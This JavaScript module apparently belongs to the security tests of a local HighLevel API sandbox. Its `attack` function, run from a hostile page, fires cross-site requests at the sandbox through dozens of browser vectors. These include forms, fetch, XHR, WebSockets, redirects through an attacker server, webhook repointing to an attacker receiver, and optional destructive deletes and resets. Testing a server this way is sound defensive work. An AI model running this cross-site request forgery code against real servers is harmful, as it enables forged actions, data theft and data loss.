// Attacks of a web page on a server, by all vectors by which a page can make a browser send a request and read its response.
// `attack` runs in the page, so it uses nothing else of this module.

/**
 * Attacks the origin `target` by each vector. Each request contains the name of its vector: in the query of the URL for the
 * HighLevel API, and as the text of a message or the id of a contact in the body. Returns the names of the vectors, and the
 * responses that the page could read. `elsewhere` is a redirecting server of the attacker, and `receiver` its URL for webhooks.
 */
export async function attack({ target, facts, elsewhere, receiver, destroys }) {
  const readings = [];
  const reads = (vector, path, text) => readings.push(`${vector} read ${path}: ${String(text).slice(0, 10_000)}`);
  /** Limits the wait for an element: not every element reports that its request was rejected. */
  const bounded = (promise) => Promise.race([promise, new Promise((resolve) => setTimeout(resolve, 2_000))]).catch(() => {});
  const event = (element, ...names) => new Promise((resolve) => names.forEach((name) => element.addEventListener(name, () => resolve(name), { once: true })));
  // The admin API rejects unknown parameters.
  const address = (vector, path) => path.startsWith("/_sandbox/") ? target + path : `${target}${path}${path.includes("?") ? "&" : "?"}by=${vector}`;

  const PATHS = [
    "/conversations/messages",
    `/v2/oauth/chooselocation?response_type=code&client_id=${facts.clientId}&redirect_uri=${encodeURIComponent("http://127.0.0.1:9/x")}&scope=a&location_id=${facts.locationId}`,
    "/oauth/token",
    "/_sandbox/health",
    "/_sandbox/snapshot",
    "/_sandbox/requests",
    "/_sandbox/events",
    "/_sandbox/ui",
    "/_sandbox/ui/requests?text=a",
  ];
  /** Bodies by path, as JSON and as fields of a form. */
  const bodies = (vector) => [
    ["/conversations/messages", { type: "SMS", contactId: facts.contactId, message: vector, status: "pending" }],
    ["/conversations/messages/inbound", { type: "SMS", contactId: facts.contactId, message: vector }],
    ["/oauth/token", { client_id: facts.clientId, client_secret: facts.clientSecret, grant_type: "authorization_code", code: vector }],
    ["/oauth/locationToken", { companyId: "c", locationId: facts.locationId }],
    ["/v2/oauth/chooselocation", { client_id: facts.clientId, redirect_uri: "http://127.0.0.1:9/x", scope: "a", location_id: facts.locationId }],
    ["/_sandbox/simulate/inbound", { message: vector }],
    ["/_sandbox/tokens", { locationId: facts.locationId, token: `pit-${vector}` }],
    ["/_sandbox/faults", { fault: "unavailable", path: `/${vector}` }],
    ["/_sandbox/events/trigger", { event: "INSTALL", url: `${receiver}/hook` }],
    ["/_sandbox/oauth/installs", { clientId: facts.clientId, locationId: facts.locationId }],
    ["/_sandbox/webhooks/keys", {}],
    ["/_sandbox/ui/contacts", { contact: `ui-${vector}`, name: vector }],
    [`/_sandbox/ui/conversations/${facts.contactId}/messages`, { text: vector }],
    ["/_sandbox/ui/controls/webhooks/url", { url: `${receiver}/${vector}` }],
    ["/_sandbox/ui/controls/clock", { speed: "7" }],
  ];
  /** Operations with other HTTP methods, which a page can only send by `fetch`. */
  const OTHERS = [
    ["PUT", "/conversations/messages/m/status", { status: "read" }],
    ["PATCH", "/_sandbox/webhooks", { url: `${receiver}/patched` }],
    ["PATCH", "/_sandbox/settings", { strictness: "documented" }],
    ["PUT", "/_sandbox/rate-limit", { burst: { limit: 1 } }],
    ["PUT", "/_sandbox/seed", { contacts: [{ id: "seeded" }] }],
  ];
  /** Sent last, because they undo the effects of the others. */
  const DESTRUCTIVE = [
    ["DELETE", "/_sandbox/faults", undefined],
    ["DELETE", `/_sandbox/contacts/${facts.contactId}`, undefined],
    ["POST", "/_sandbox/reset", {}],
  ];

  const body = document.body;
  const append = (name, properties) => {
    const element = document.createElement(name);
    for (const [key, value] of Object.entries(properties)) element.setAttribute(key, value);
    body.append(element);
    return element;
  };
  const frameText = (frame) => {
    try {
      return frame.contentDocument?.documentElement?.textContent ?? "";
    } catch {
      return "";
    }
  };

  /** Adds an element that loads each URL. */
  const element = (vector, name, attribute, more = {}) => PATHS.map(async (path) => {
    const made = document.createElement(name);
    for (const [key, value] of Object.entries(more)) made.setAttribute(key, value);
    const ended = event(made, "load", "error", "loadeddata");
    made.setAttribute(attribute, address(vector, path));
    body.append(made);
    const result = await bounded(ended);
    if (name === "img" && made.naturalWidth > 0) reads(vector, path, `a picture ${made.naturalWidth} wide`);
    if (result === "load" && name === "script") reads(vector, path, "a script that runs");
    if (name === "link" && made.sheet) {
      try {
        reads(vector, path, made.sheet.cssRules.length);
      } catch { /* another origin */ }
    }
    if (name === "iframe" || name === "object") {
      const text = frameText(made);
      if (text) reads(vector, path, text);
    }
  });

  /** Submits a form in a frame. With `text/plain`, its body is JSON. */
  const form = (vector, enctype, method = "POST") => bodies(vector).map(async ([path, fields]) => {
    const frame = append("iframe", { name: `${vector} ${path}` });
    const made = append("form", { method, action: address(vector, path), enctype, target: frame.name });
    if (enctype === "text/plain") {
      const text = JSON.stringify({ ...fields, padding: "" });
      const at = text.length - 2;
      const input = document.createElement("input");
      [input.name, input.value] = [text.slice(0, at), text.slice(at)];
      made.append(input);
    } else {
      // The fields of a form with the method GET replace the query.
      for (const [name, value] of Object.entries(method === "GET" ? { ...fields, by: vector } : fields)) {
        const input = document.createElement("input");
        [input.name, input.value] = [name, value];
        made.append(input);
      }
    }
    const loaded = event(frame, "load");
    made.submit();
    await bounded(loaded);
    const text = frameText(frame);
    if (text) reads(vector, path, text);
  });

  const request = (vector, path, options) => bounded(
    fetch(address(vector, path), { credentials: "include", signal: AbortSignal.timeout(1_900), ...options }).then(async (response) => {
      if (response.type === "opaque") return;
      // Reads one chunk only, because a stream does not end.
      const { value } = (await response.body?.getReader().read()) ?? {};
      reads(vector, path, `${response.status} ${value ? new TextDecoder().decode(value) : ""}`);
    }),
  );
  const post = (vector, mode, type, encode, headers = {}) => bodies(vector).map(([path, fields]) =>
    request(vector, path, { method: "POST", mode, headers: { ...(type && { "content-type": type }), ...headers }, body: encode(fields) }));
  const multipart = (fields) => {
    const data = new FormData();
    for (const [name, value] of Object.entries(fields)) data.append(name, value);
    return data;
  };
  const authorized = { authorization: `Bearer ${facts.token}`, version: "2021-04-15" };

  const vectors = {
    // First, because a browser limits its connections, and elements that load a stream occupy one.
    "event-source": () => ["/_sandbox/events", "/conversations/messages"].map(async (path) => {
      const made = new EventSource(address("event-source", path), { withCredentials: true });
      made.addEventListener("connected", ({ data }) => reads("event-source", path, data));
      await bounded(event(made, "connected", "error"));
      made.close();
    }),
    img: () => element("img", "img", "src"),
    script: () => element("script", "script", "src"),
    module: () => element("module", "script", "src", { type: "module" }),
    stylesheet: () => element("stylesheet", "link", "href", { rel: "stylesheet" }),
    iframe: () => element("iframe", "iframe", "src"),
    object: () => element("object", "object", "data"),
    embed: () => element("embed", "embed", "src"),
    video: () => element("video", "video", "src"),
    "form-get": () => form("form-get", "application/x-www-form-urlencoded", "GET"),
    "form-urlencoded": () => form("form-urlencoded", "application/x-www-form-urlencoded"),
    "form-multipart": () => form("form-multipart", "multipart/form-data"),
    "form-text": () => form("form-text", "text/plain"),
    "fetch-get": () => PATHS.map((path) => request("fetch-get", path, { mode: "cors" })),
    "fetch-get-no-cors": () => PATHS.map((path) => request("fetch-get-no-cors", path, { mode: "no-cors" })),
    "fetch-head": () => PATHS.map((path) => request("fetch-head", path, { mode: "no-cors", method: "HEAD" })),
    "fetch-text": () => post("fetch-text", "no-cors", "text/plain", JSON.stringify),
    "fetch-form": () => post("fetch-form", "no-cors", undefined, (fields) => new URLSearchParams(fields)),
    "fetch-multipart": () => post("fetch-multipart", "no-cors", undefined, multipart),
    "fetch-text-cors": () => post("fetch-text-cors", "cors", "text/plain", JSON.stringify),
    "fetch-without-referrer": () => bodies("fetch-without-referrer").map(([path, fields]) =>
      request("fetch-without-referrer", path, { method: "POST", mode: "no-cors", referrerPolicy: "no-referrer", body: JSON.stringify(fields) })),
    "fetch-json": () => post("fetch-json", "cors", "application/json", JSON.stringify),
    "fetch-authorized": () => post("fetch-authorized", "cors", "application/json", JSON.stringify, authorized),
    xhr: () => bodies("xhr").map(([path, fields]) => {
      const made = new XMLHttpRequest();
      made.open("POST", address("xhr", path));
      made.withCredentials = true;
      const ended = event(made, "loadend");
      made.send(JSON.stringify(fields));
      return bounded(ended.then(() => made.status && reads("xhr", path, `${made.status} ${made.responseText}`)));
    }),
    beacon: () => bodies("beacon").map(([path, fields]) => navigator.sendBeacon(address("beacon", path), JSON.stringify(fields))),
    "web-socket": () => ["/_sandbox/events", "/conversations/messages"].map(async (path) => {
      const made = new WebSocket(address("web-socket", path).replace(/^http/, "ws"));
      if ((await bounded(event(made, "open", "error"))) === "open") reads("web-socket", path, "it is open");
      made.close();
    }),
    window: () => ["/conversations/messages", "/_sandbox/snapshot", "/_sandbox/ui"].map(async (path) => {
      const opened = window.open(address("window", path));
      await new Promise((resolve) => setTimeout(resolve, 1_500));
      try {
        const text = opened.document.documentElement.textContent;
        if (opened.location.href !== "about:blank" && text) reads("window", path, text);
      } catch { /* another origin */ }
      opened?.close();
    }),
    "window-form": () => bodies("window-form").slice(0, 1).map(async ([path, fields]) => {
      const made = append("form", { method: "POST", action: address("window-form", path), enctype: "text/plain", target: "_blank" });
      const input = document.createElement("input");
      [input.name, input.value] = [JSON.stringify(fields), ""];
      made.append(input);
      made.submit();
      await new Promise((resolve) => setTimeout(resolve, 1_000));
    }),
    // The following requests are cross-site, whatever the origin of the page.
    "sandboxed-form": () => bodies("sandboxed-form").map(async ([path, fields]) => {
      const inputs = Object.entries(fields).map(([name, value]) => `<input name="${name}" value="${value}">`).join("");
      const frame = document.createElement("iframe");
      frame.sandbox = "allow-scripts allow-forms";
      frame.srcdoc = `<form method="post" action="${address("sandboxed-form", path)}">${inputs}</form><script>document.forms[0].submit()</script>`;
      const loaded = event(frame, "load");
      body.append(frame);
      await bounded(loaded);
    }),
    "redirect-get": () => PATHS.map((path) =>
      bounded(fetch(`${elsewhere}/redirect/302?${encodeURIComponent(address("redirect-get", path))}`, { mode: "no-cors" }))),
    "redirect-post": () => bodies("redirect-post").map(([path, fields]) =>
      bounded(fetch(`${elsewhere}/redirect/307?${encodeURIComponent(address("redirect-post", path))}`, { method: "POST", mode: "no-cors", body: JSON.stringify(fields) }))),
    "redirect-form": () => bodies("redirect-form").map(async ([path, fields]) => {
      const frame = append("iframe", { name: `redirect-form ${path}` });
      const made = append("form", { method: "POST", action: `${elsewhere}/redirect/307?${encodeURIComponent(address("redirect-form", path))}`, target: frame.name });
      for (const [name, value] of Object.entries(fields)) {
        const input = document.createElement("input");
        [input.name, input.value] = [name, value];
        made.append(input);
      }
      const loaded = event(frame, "load");
      made.submit();
      await bounded(loaded);
    }),
    // Last, because it changes settings that the others depend on.
    "fetch-other-methods": () => OTHERS.map(([method, path, fields]) =>
      request("fetch-other-methods", path, { method, mode: "cors", headers: { "content-type": "application/json" }, body: JSON.stringify(fields) })),
  };
  // In sequence, so that no vector waits for the connections of another.
  for (const vector of Object.values(vectors)) await Promise.all(vector());
  for (const [method, path, fields] of destroys ? DESTRUCTIVE : []) {
    const json = { headers: { "content-type": "application/json" }, body: JSON.stringify(fields) };
    await request("destructive", path, { method, mode: "cors", ...(fields && json) });
    if (method === "POST") await request("destructive", path, { method, mode: "no-cors", body: "{}" });
  }
  return { vectors: Object.keys(vectors), readings };
}
